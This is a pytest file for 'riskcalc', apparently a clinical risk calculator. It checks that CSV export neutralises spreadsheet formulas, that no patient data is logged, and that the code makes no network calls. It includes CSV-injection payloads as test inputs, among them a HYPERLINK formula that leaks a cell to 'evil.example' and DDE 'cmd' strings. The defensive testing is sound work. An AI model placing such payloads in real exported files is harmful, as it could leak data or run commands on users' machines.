"""Safety: exported CSV cannot run as a spreadsheet formula, no patient input is logged, nothing is sent
anywhere, and uploads are size-limited.

- Formulas: every cell of `riskcalc batch` CSV output (and of the app's upload table) that starts with
  = + - @ tab or carriage return gets a leading ' (kept as text), unless it is a plain number.
- Logging: assess / what_if / batch run with every logger at DEBUG; no record, and nothing on stdout/stderr
  beyond the documented lines (the batch summary; an invalid-input error line), contains an input value.
- Telemetry: .streamlit/config.toml sets gatherUsageStats = false; no module of riskcalc/ (or ui/) imports a
  network library; a process whose sockets all raise still assesses and batches.
- Uploads: server.maxUploadSize is set (small).
"""

from __future__ import annotations

import csv
import json
import logging
import re
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from riskcalc import Patient, assess, what_if
from riskcalc.batch import ignored_message, safe_cell
from riskcalc.cli import EXIT_OK, main

ROOT = Path(__file__).resolve().parent.parent
CONFIG = ROOT / ".streamlit" / "config.toml"

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "+",
    "-",
    "@",
    "-x",
    "+1+1",
    "=-1",
    "-1-1",
    "- 1",
]
NUMBERS = ["-1", "+1", "-0.5", "+2.5e-3", "-1e4", "0", "12", "-.5"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + ["abc", "", "1+1", " =1", "'=1"])
def test_plain_values_are_kept(cell: str) -> None:
    assert safe_cell(cell) == cell


def _formula_csv(path: Path) -> list[str]:
    """A batch file whose pass-through cells and bad values are formulas; returns the formulas used."""
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "name", "label", "comment", "case_id", "age_years", "wbc_10e9_per_l", "genetics"])
        for index, formula in enumerate(FORMULAS):
            writer.writerow([formula, formula, formula, formula, formula, "4", "12", ""])  # good rows
            writer.writerow([f"bad{index}", "", "", "", "", formula, "12", ""])  # the formula is the bad value
        writer.writerow(["neg", "-1", "+1", "-0.5", "12", "4", "12", "etv6_runx1"])
    return FORMULAS


def _dangerous(cell: str) -> bool:
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def test_batch_csv_output_has_no_live_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
    _formula_csv(source)
    main(["batch", str(source), "-o", str(target), "--no-progress"])
    capsys.readouterr()
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _dangerous(cell)]
    header = rows[0]
    assert "name" not in header  # the name column is ignored, never copied (spec 1.1 section 7)
    by_id = {row[header.index("id")]: dict(zip(header, row)) for row in rows[1:]}
    neg = by_id["neg"]
    assert [neg["label"], neg["comment"], neg["case_id"]] == ["+1", "-0.5", "12"]  # plain numbers kept as numbers
    for formula in FORMULAS:  # a good row keeps its text, made inert
        assert by_id["'" + formula]["label"] == "'" + formula
    errors = [row[-1] for row in rows[1:] if row[-1]]
    assert len(errors) == len(FORMULAS) and all(error.startswith("line ") for error in errors)


def test_app_upload_table_has_no_live_formula(tmp_path: Path) -> None:
    from ui.lib import batchtable

    source = tmp_path / "in.csv"
    _formula_csv(source)
    table = batchtable.assess_csv(source.read_bytes())
    exported = list(csv.reader(table.to_csv().splitlines()))
    assert not [cell for row in exported for cell in row if _dangerous(cell)]
    assert len(table.rows) == 2 * len(FORMULAS) + 1


def test_upload_limit_and_no_usage_statistics() -> None:
    config = tomllib.loads(CONFIG.read_text(encoding="utf-8"))
    assert config["browser"]["gatherUsageStats"] is False
    assert 0 < config["server"]["maxUploadSize"] <= 10  # MB
    assert config["server"].get("headless") is True
    assert config["server"]["address"] == "localhost"  # served to this machine only, unless asked otherwise


# ------------------------------------------------------------------------------------------------ logging
SECRET_AGE, SECRET_WBC, SECRET_MRD = "7.3219", "43.2117", "0.004321"
SECRET_TEXT = ["MRN-99887766", "Jane Q. Patientname", "bed 12, ward Ostrich"]
SECRETS = [SECRET_AGE, SECRET_WBC, SECRET_MRD, *SECRET_TEXT]


@pytest.fixture()
def all_logging_at_debug(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    caplog.set_level(logging.DEBUG)  # root logger
    for name in list(logging.root.manager.loggerDict):
        caplog.set_level(logging.DEBUG, logger=name)
    return caplog


def _logged(caplog: pytest.LogCaptureFixture) -> str:
    return "\n".join(f"{record.name} {record.getMessage()} {record.args!r}" for record in caplog.records)


def test_assess_and_what_if_log_no_input(
    all_logging_at_debug: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    patient = Patient(
        age_years=float(SECRET_AGE),
        wbc_10e9_per_l=float(SECRET_WBC),
        genetics=["etv6_runx1"],
        cns_status="CNS1",
        mrd_eoi_percent=float(SECRET_MRD),
    )
    assess(patient)
    what_if(patient, mrd_eoi_percent=float(SECRET_MRD) * 2)
    assess(Patient(age_years=float(SECRET_AGE), wbc_10e9_per_l=float(SECRET_WBC)))
    out, err = capfd.readouterr()
    text = _logged(all_logging_at_debug) + out + err
    assert not [secret for secret in SECRETS if secret in text], text[:2000]


def _secret_batch(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "name", "comment", "age_years", "wbc_10e9_per_l", "mrd_eoi_percent"])
        writer.writerow([SECRET_TEXT[0], SECRET_TEXT[1], SECRET_TEXT[2], SECRET_AGE, SECRET_WBC, SECRET_MRD])
        writer.writerow(
            [SECRET_TEXT[0], SECRET_TEXT[1], SECRET_TEXT[2], SECRET_AGE, "99" + SECRET_WBC, SECRET_MRD]
        )  # bad


def test_batch_logs_no_input(
    tmp_path: Path, all_logging_at_debug: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
    _secret_batch(source)
    main(["batch", str(source), "-o", str(target), "--no-progress"])
    out, err = capfd.readouterr()
    assert out == ""
    # the two documented lines: the ignored name column (named, its values never shown) and the summary
    assert err.strip().splitlines() == [
        f"riskcalc: {ignored_message(['name'])}",
        f"2 rows: 1 assessed, 1 failed -> {target}",
    ]
    assert not [secret for secret in SECRETS if secret in _logged(all_logging_at_debug)]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "out.csv"]  # nothing else written


def test_cli_subprocess_prints_only_documented_lines(tmp_path: Path) -> None:
    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
    _secret_batch(source)
    env = {"PYTHONWARNINGS": "always", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    done = subprocess.run(
        [str(ROOT / ".venv" / "bin" / "riskcalc"), "batch", str(source), "-o", str(target)],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        timeout=120,
    )
    assert done.stdout == ""
    assert done.stderr.strip().splitlines() == [
        f"riskcalc: {ignored_message(['name'])}",
        f"2 rows: 1 assessed, 1 failed -> {target}",
    ]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "out.csv"]
    good = subprocess.run(
        [
            str(ROOT / ".venv" / "bin" / "riskcalc"),
            "assess",
            f"--age-years={SECRET_AGE}",
            f"--wbc-10e9-per-l={SECRET_WBC}",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert good.returncode == EXIT_OK and good.stderr == ""
    bad = subprocess.run(
        [
            str(ROOT / ".venv" / "bin" / "riskcalc"),
            "assess",
            f"--age-years={SECRET_AGE}",
            f"--wbc-10e9-per-l=99{SECRET_WBC}",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    # The documented error line names the field and the rule; nothing else is printed.
    assert bad.stdout == "" and bad.stderr.count("\n") == 1
    assert bad.stderr.startswith("riskcalc: invalid input: wbc_10e9_per_l: Input should be less than or equal to 2000")
    assert SECRET_AGE not in bad.stderr


# ----------------------------------------------------------------------------------------------- network
NETWORK = re.compile(
    r"^\s*(?:import|from)\s+(?:requests|httpx|aiohttp|urllib3|socket|ssl|http\.client|http\.server|smtplib|ftplib|"
    r"telnetlib|xmlrpc|webbrowser|urllib\.request|urllib(?:\s|$)|asyncio|websocket|websockets|grpc|sentry_sdk|"
    r"posthog|segment|mixpanel|analytics)\b",
    re.MULTILINE,
)


@pytest.mark.parametrize("folder", ["riskcalc", "ui"])
def test_no_network_imports(folder: str) -> None:
    files = sorted((ROOT / folder).rglob("*.py"))
    assert files
    found = {str(path.relative_to(ROOT)): NETWORK.findall(path.read_text(encoding="utf-8")) for path in files}
    assert not {path: hits for path, hits in found.items() if hits}


NO_SOCKETS = r"""
import socket, sys
def refuse(*args, **kwargs):
    raise RuntimeError("riskcalc tried to open a network connection")
socket.socket = refuse
socket.create_connection = refuse
socket.getaddrinfo = refuse
sys.path.insert(0, ".")
from riskcalc import Patient, assess, what_if
from riskcalc.cli import main
a = assess(Patient(age_years=4, wbc_10e9_per_l=12))
what_if(a.patient, mrd_eoi_percent=0.0)
sys.exit(main(["batch", sys.argv[1], "-o", sys.argv[2], "--no-progress"]))
"""


def test_works_with_every_socket_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("age_years,wbc_10e9_per_l\n4,12\n", encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-c", NO_SOCKETS, str(source), str(tmp_path / "out.jsonl")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == EXIT_OK, done.stderr
    assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["assessment"]["group"] == "favorable"
